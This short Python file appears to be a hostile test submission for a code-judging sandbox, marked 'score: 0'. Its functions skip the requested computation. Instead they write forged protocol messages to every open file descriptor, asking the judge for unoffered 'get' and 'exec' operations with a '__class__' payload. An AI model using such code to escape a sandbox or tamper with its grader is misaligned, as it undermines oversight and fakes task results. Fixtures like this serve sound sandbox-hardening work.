# ruff: noqa
# fmt: off
# Asks the judge for operations that nobody offered.
# score: 0
import json, os, struct
def forge(op):
    head = json.dumps({"op": op, "v": ["l", [1, "__class__"]], "grad": True, "sync": [], "drop": []}).encode()
    for fd in range(3, 64):
        try: os.write(fd, struct.pack("!BII", 1, len(head), 0) + head)
        except OSError: pass
def double(x): forge("get"); return None
def total(x): forge("exec"); return None
